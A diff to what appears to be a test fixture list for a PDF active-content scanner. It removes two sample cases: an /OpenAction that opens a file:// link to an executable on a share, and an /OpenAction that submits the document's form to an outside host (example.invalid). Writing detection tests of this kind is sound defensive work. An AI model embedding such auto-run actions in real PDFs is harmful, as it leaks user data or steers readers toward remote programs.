@@ -207,22 +207,6 @@ const pdfs: Plan[] = [
     active,
   ),
   attached(
-    'f-uri-file',
-    'a link to a program on a share',
-    'low',
-    'a.pdf',
-    pdf('/OpenAction << /S /URI /URI (file://example.invalid/a.exe) >>'),
-    active,
-  ),
-  attached(
-    'f-submit',
-    'a form that sends itself away',
-    'medium',
-    'a.pdf',
-    pdf('/OpenAction << /S /SubmitForm /F (https://example.invalid/) >>'),
-    active,
-  ),
-  attached(
     'f-rendition',
     'a script of a rendition',
     'low',
